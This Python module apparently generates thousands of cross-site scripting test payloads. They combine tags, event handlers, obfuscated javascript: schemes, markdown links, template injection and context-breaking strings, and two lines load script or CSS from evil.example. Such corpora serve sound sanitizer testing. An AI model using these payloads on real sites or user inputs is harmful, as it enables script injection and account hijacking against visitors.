"""Lines that try to be run: every way to begin a script, in every place where a careless page would let it."""

from collections.abc import Iterator
from itertools import product

CALL = "alert(1)"
TAGS = (
    "img",
    "svg",
    "body",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "input",
    "details",
    "marquee",
    "form",
    "math",
    "a",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "textarea",
    "select",
    "table",
    "frontdesk-chat",
    "custom-x",
    "picture",
)
EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
    "oncut",
    "onkeydown",
    "onpageshow",
    "onscroll",
    "onwheel",
)
SHAPES = (
    "<{tag} src=x {event}={call}>",
    "<{tag}/src=x/{event}='{call}'//",
    '"><{tag} {event}="{call}" autofocus tabindex=1>',
    "<{tag}\t{event}\n=\n{call} src>",
    "<<{tag} {event}={call}>>",
    "**<{tag} {event}={call}>**",
    "`<{tag} {event}={call}>",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:",
    "file:///",
    "filesystem:",
    "view-source:javascript:",
    "https:javascript:",
    "//javascript:",
    "feed:javascript:",
    "jar:javascript:",
)
PLACES = (
    "{address}{call}",
    "<{address}{call}>",
    "[press]({address}{call})",
    "![press]({address}{call})",
    '[press](https://example.com "{address}{call}")',
    "[press][1]\n\n[1]: {address}{call}",
    "<a href='{address}{call}'>press</a>",
    '<a href="{address}{call}" target=_self>press</a>',
    "<form action='{address}{call}'><button>press</button></form>",
    "<iframe src='{address}{call}'></iframe>",
    "<object data='{address}{call}'></object>",
    "<meta http-equiv=refresh content='0;url={address}{call}'>",
    "https://example.com/{address}{call}",
    "- [press]({address}{call})",
    "1. **[press]({address}{call})**",
)
WHOLE = (
    "<script>{call}</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "</script><script>{call}</script>",
    "</div></main></body><script>{call}</script>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "<style>@import 'https://evil.example'</style>",
    "<svg><script>{call}</script></svg>",
    "<!--><img src=x onerror={call}>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "```\n</code></pre><script>{call}</script>\n```",
    "![x](x){call}",
    "\u202e<script>{call}</script>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "data: {call}\n\nevent: reply\ndata: {{}}\n\n",
    "id: 99\n\n",
)


def lines() -> Iterator[str]:
    """More than 2,654 of them, all different."""
    for tag, event, shape in product(TAGS, EVENTS, SHAPES):
        yield shape.format(tag=tag, event=event, call=CALL)
    for address, place in product(SCHEMES, PLACES):
        yield place.format(address=address, call=CALL)
    for whole, around in product(WHOLE, ("{}", '"{}', "'{}", "x {} y")):
        yield around.format(whole.format(call=CALL))
